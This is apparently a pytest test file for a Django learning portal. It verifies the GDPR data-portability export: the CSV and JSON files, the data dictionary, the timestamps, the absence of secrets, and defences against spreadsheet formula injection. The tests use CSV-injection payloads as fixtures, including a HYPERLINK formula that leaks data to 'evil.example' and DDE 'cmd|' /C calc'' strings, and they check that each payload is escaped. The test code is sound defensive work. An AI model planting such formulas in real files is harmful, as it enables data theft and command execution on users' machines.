"""The portable copy (GDPR Art. 20): a CSV and a JSON file per kind of record, a data dictionary, no secrets."""

import csv
import datetime
import io
import json
import struct
import zipfile
from decimal import Decimal, InvalidOperation
from urllib.parse import quote

import pytest
import time_machine
from django.test import Client

from accounts.models import Course
from learnerportal import spreadsheets
from learnerportal.tests.factories import (
    PASSWORD,
    CourseFactory,
    EnrollmentFactory,
    LearningEventFactory,
    PaymentFactory,
    QuizResultFactory,
    UserFactory,
    photo_file,
)
from rights_requests import services
from rights_requests.models import Status

pytestmark = pytest.mark.django_db

TRICKY = 'Comma, "quotes", new\nline, emoji 🎓 and 中文'
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click to verify")'
#: What makes a spreadsheet run a cell, at its start or after white space (OWASP CSV injection).
FORMULA_STARTS = tuple("=+-@\t\r＝＋－＠")


@pytest.fixture
def amara(amara, client):
    """Amara with a tricky bio and three learning events in a course, signed in on ``client``."""
    amara.profile.full_name = "Amara Okafor-Mensah"
    amara.profile.bio = TRICKY
    amara.profile.save()
    course = CourseFactory(title="Data Ethics")
    EnrollmentFactory(user=amara, course=course)
    LearningEventFactory.create_batch(3, user=amara, course=course)
    client.force_login(amara)
    return amara


def download(client, amara, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        request = services.request_submit(actor=amara, subject=amara, request_type="portability")
    request.refresh_from_db()
    assert request.status == Status.COMPLETED
    response = client.get(f"/settings/data/{request.pk}/download/")
    assert response["Content-Type"] == "application/zip"
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def csv_lines(archive, name):
    """Return the header and the lines of the CSV entry ``name`` of ``archive``."""
    header, *lines = csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline=""))
    return header, lines


def csv_rows(archive):
    """Return every CSV line of ``archive`` as a dict (column → cell) with its file's name under ``"file"``."""
    rows = []
    for name in archive.namelist():
        if name.endswith(".csv"):
            header, lines = csv_lines(archive, name)
            rows += [{"file": name, **dict(zip(header, line, strict=True))} for line in lines]
    return rows


def records(archive, name):
    """Return the records of the JSON entry ``name`` of ``archive``."""
    return json.loads(archive.read(name))


def is_number(cell):
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return cell == cell.strip()


def live_formulas(archive):
    """Return the CSV cells of ``archive`` a spreadsheet would run as a formula."""
    return [
        cell
        for row in csv_rows(archive)
        for cell in row.values()
        if (cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)) and not is_number(cell)
    ]


def as_csv_cell(value):
    """Return the text a CSV reader gets for a JSON value of the copy (the README's rules)."""
    if isinstance(value, bool | dict | list):
        return json.dumps(value, ensure_ascii=False)
    return str(spreadsheets.cell(value))


def test_the_copy_has_one_csv_and_one_json_per_kind_of_record_with_the_registrys_columns(
    client, amara, django_capture_on_commit_callbacks
):
    archive = download(client, amara, django_capture_on_commit_callbacks)
    names = set(archive.namelist())
    manifest = json.loads(archive.read("manifest.json"))

    kinds = {"account", "profile", "enrollments", "learning_activity"}
    assert {f"{kind}.{extension}" for kind in kinds for extension in ("csv", "json")} <= names
    assert {"manifest.json", "README.txt"} <= names
    assert not {"identity.csv", "security.csv", "usage.json"} & names, "no file mixes kinds of record"
    assert "payments.csv" not in names, "a kind Amara has no record of is left out"
    assert names == {"manifest.json", "README.txt"} | {e[k] for e in manifest["files"] for k in ("csv", "json")}
    assert manifest["format_version"] == "4"
    # The registry's declared order, a plain name per column, nothing internal.
    assert csv_lines(archive, "profile.csv")[0] == [
        "full_name",
        "photo",
        "bio",
        "phone",
        "date_of_birth",
        "country",
        "us_state",
        "regime_override",
        "regime_override_reason",
        "education_level",
        "occupation",
        "timezone",
        "language",
        "created_at",
        "updated_at",
    ]
    assert csv_lines(archive, "learning_activity.csv")[0] == ["event_type", "occurred_at", "course"]
    assert csv_lines(archive, "account.csv")[0] == ["username", "email", "last_login", "date_joined"]
    rows = {entry["records"]: entry["rows"] for entry in manifest["files"]}
    assert rows["learning_activity"] == 3 and rows["enrollments"] == 1 and rows["profile"] == 1
    assert records(archive, "profile.json")[0]["full_name"] == "Amara Okafor-Mensah"
    assert {event["course"] for event in records(archive, "learning_activity.json")} == {"Data Ethics"}, (
        "records name their course"
    )


def test_each_json_file_holds_what_its_csv_file_holds(client, amara, django_capture_on_commit_callbacks):
    PaymentFactory(user=amara, amount=Decimal("1234.50"), method_summary="=cmd|' /C calc'!A0")
    archive = download(client, amara, django_capture_on_commit_callbacks)

    for entry in json.loads(archive.read("manifest.json"))["files"]:
        header, lines = csv_lines(archive, entry["csv"])
        documents = records(archive, entry["json"])
        assert len(lines) == len(documents) == entry["rows"], entry["records"]
        for line, document in zip(lines, documents, strict=True):
            assert list(document) == header, entry["records"]
            assert line == [as_csv_cell(value) for value in document.values()], entry["records"]
    payment = records(archive, "payments.json")[0]
    assert (payment["amount"], payment["currency"]) == ("1234.50", "EUR"), "exact in the JSON"
    assert csv_lines(archive, "payments.csv")[1][0][:2] == ["1234.50", "EUR"]


def test_the_manifest_and_the_readme_describe_every_column_of_every_file(
    client, amara, django_capture_on_commit_callbacks
):
    EnrollmentFactory(user=amara, grade_percent=Decimal("87.50"))
    archive = download(client, amara, django_capture_on_commit_callbacks)
    manifest = json.loads(archive.read("manifest.json"))
    readme = " ".join(archive.read("README.txt").decode("utf-8").split())  # as read, whatever the line breaks

    for entry in manifest["files"]:
        assert [column["name"] for column in entry["columns"]] == csv_lines(archive, entry["csv"])[0]
        for column in entry["columns"]:
            assert column["meaning"] and column["format"], (entry["records"], column["name"])
            assert f"{column['name']}: {column['meaning']}. Format: {column['format']}." in readme
        assert f"{entry['csv']} and {entry['json']}: {entry['title']}" in readme
    dictionary = {(e["records"], c["name"]): c for e in manifest["files"] for c in e["columns"]}
    assert dictionary["enrollments", "grade_percent"]["unit"] == "percent"
    assert dictionary["enrollments", "grade_percent"]["format"].startswith("decimal number, 2 decimal places")
    assert dictionary["enrollments", "enrolled_at"]["format"].startswith("ISO 8601 date and time with its UTC offset")
    assert dictionary["learning_activity", "event_type"]["values"]["video_played"] == "Played a video"
    assert dictionary["profile", "country"]["format"] == "ISO 3166-1 alpha-2 country code"
    assert (
        "grade_percent: Your final grade, in percent. "
        "Format: decimal number, 2 decimal places (text in the JSON, to keep it exact). Unit: percent."
    ) in readme
    assert "event_type: What you did, e.g. played a video. Format: code, one of the values listed. " in readme
    assert "video_played = Played a video; page_viewed = " in readme
    assert dictionary["profile", "full_name"] == {
        "name": "full_name",
        "meaning": "Your full name",
        "format": "text",
        "unit": None,
        "category": "identity",
    }


def test_every_entry_is_dated_the_time_the_copy_was_made(client, amara, django_capture_on_commit_callbacks):
    made_at = datetime.datetime(2026, 3, 14, 9, 26, 52, tzinfo=datetime.UTC)
    amara.profile.photo = photo_file()
    amara.profile.save()
    with time_machine.travel(made_at, tick=False):
        archive = download(client, amara, django_capture_on_commit_callbacks)

    assert "profile_photo.jpg" in archive.namelist()
    for info in archive.infolist():
        assert info.date_time == (2026, 3, 14, 9, 26, 52), info.filename
        # The exact instant, which unzip tools show in the reader's time zone (Info-ZIP extended timestamp).
        assert struct.unpack("<HHBL", info.extra[:9]) == (0x5455, 5, 1, int(made_at.timestamp())), info.filename
    assert json.loads(archive.read("manifest.json"))["generated_at"] == "2026-03-14T09:26:52+00:00"


def test_csv_round_trips_any_text(client, amara, django_capture_on_commit_callbacks):
    archive = download(client, amara, django_capture_on_commit_callbacks)
    reader = csv.DictReader(io.StringIO(archive.read("profile.csv").decode("utf-8"), newline=""))
    profiles = list(reader)
    assert [line["bio"] for line in profiles] == [TRICKY]
    assert profiles[0]["full_name"] == "Amara Okafor-Mensah"


def test_the_copy_holds_no_secrets_and_nobody_elses_data(client, amara, django_capture_on_commit_callbacks):
    other = UserFactory(username="bystander", email="bystander@example.org")
    other.profile.full_name = "Someone Else"
    other.profile.save()
    course = Course.objects.get(title="Data Ethics")
    EnrollmentFactory(user=other, course=course, progress_percent=77)  # the same course as Amara's
    QuizResultFactory(enrollment__user=other, quiz_title="Bystander's quiz")
    PaymentFactory(user=other, course=course, method_summary="Mastercard ending 5555")
    LearningEventFactory.create_batch(2, user=other, course=course)
    archive = download(client, amara, django_capture_on_commit_callbacks)
    everything = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8", "replace")
    amara.refresh_from_db()
    assert amara.password not in everything and "argon2" not in everything and "md5$" not in everything
    assert PASSWORD not in everything
    assert "Someone Else" not in everything and "bystander" not in everything
    assert "Bystander's quiz" not in everything and "ending 5555" not in everything
    assert "payments.csv" not in archive.namelist() and "quiz_results.csv" not in archive.namelist()
    assert [row["progress_percent"] for row in csv_rows(archive) if row["file"] == "enrollments.csv"] == ["40"]
    assert len(records(archive, "learning_activity.json")) == 3


def test_a_stranger_cannot_plant_a_formula_or_leave_a_form_in_the_copy_through_failed_sign_ins(
    client, amara, django_capture_on_commit_callbacks
):
    stranger = Client(
        REMOTE_ADDR="203.0.113.77",
        HTTP_USER_AGENT=f"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0 {HYPERLINK}",
        HTTP_ACCEPT=HYPERLINK,
    )
    for _ in range(2):
        response = stranger.post(
            f"/accounts/login/?next=/&ref={quote(HYPERLINK)}",
            {"username": "amara", "password": "mistyped-Secret-7", "remember": HYPERLINK},
        )
        assert response.status_code == 200

    archive = download(client, amara, django_capture_on_commit_callbacks)

    assert live_formulas(archive) == []
    everything = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8", "replace")
    for planted in ("HYPERLINK", "evil.example", "mistyped-Secret-7", "203.0.113.77"):
        assert planted not in everything
    attempts = records(archive, "failed_sign_ins.json")
    assert [{key: value for key, value in attempt.items() if key != "last_attempt_at"} for attempt in attempts] == [
        {
            "username": "amara",
            "network": "203.0.113.0/24",
            "browser": "Firefox on Linux",
            "page": "/accounts/login/",
            "failed_attempts": 2,
        }
    ], "the network and kind of browser, never the headers or the form"


@pytest.mark.parametrize("formula", [HYPERLINK, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1"])
def test_a_formula_typed_in_the_profile_is_text_in_the_csv_and_exact_in_the_json(
    client, amara, formula, django_capture_on_commit_callbacks
):
    response = client.post(
        "/settings/account/",
        {"full_name": formula, "bio": formula, "occupation": formula, "phone": "+44 7700 900555"},
    )
    assert response.status_code == 302

    archive = download(client, amara, django_capture_on_commit_callbacks)

    assert live_formulas(archive) == []
    profile_rows = [row for row in csv_rows(archive) if row["file"] == "profile.csv"]
    fields = ("full_name", "bio", "occupation", "phone")
    cells = {name: row[name] for row in profile_rows for name in fields if row.get(name)}
    assert cells == {
        "full_name": "'" + formula,
        "bio": "'" + formula,
        "occupation": "'" + formula,
        "phone": "'+44 7700 900555",
    }
    exact = {name: entry[name] for entry in records(archive, "profile.json") for name in fields if entry.get(name)}
    assert exact == {"full_name": formula, "bio": formula, "occupation": formula, "phone": "+44 7700 900555"}


def test_staff_reasons_and_a_learners_own_reason_are_text_in_the_csv_and_exact_in_the_json(
    client, amara, officer, django_capture_on_commit_callbacks
):
    extended = services.request_submit(actor=amara, subject=amara, request_type="access")
    services.request_extend(actor=officer, request=extended, months=1, reason="@SUM(A1:A9)*cmd|' /C calc'!A0")
    restriction = services.request_submit(
        actor=amara, subject=amara, request_type="restriction", details={"reason": HYPERLINK}
    )
    services.request_reject(actor=officer, request=restriction, reason="-2+3+cmd|' /C calc'!A0")

    archive = download(client, amara, django_capture_on_commit_callbacks)

    assert live_formulas(archive) == []
    cells = {cell for row in csv_rows(archive) for cell in row.values()}
    assert {
        "'@SUM(A1:A9)*cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
        "'" + HYPERLINK,
    } <= cells
    requests = records(archive, "data_rights_requests.json")
    assert {(entry["extension_reason"], entry["decision_reason"]) for entry in requests} >= {
        ("@SUM(A1:A9)*cmd|' /C calc'!A0", ""),
        ("", "-2+3+cmd|' /C calc'!A0"),
    }


def test_the_readme_says_the_json_is_exact_and_how_csv_cells_are_made_safe(
    client, amara, django_capture_on_commit_callbacks
):
    readme = download(client, amara, django_capture_on_commit_callbacks).read("README.txt").decode("utf-8")

    assert "The JSON files hold every value exactly as stored." in readme
    assert "has a single\nquote (') put in front" in readme
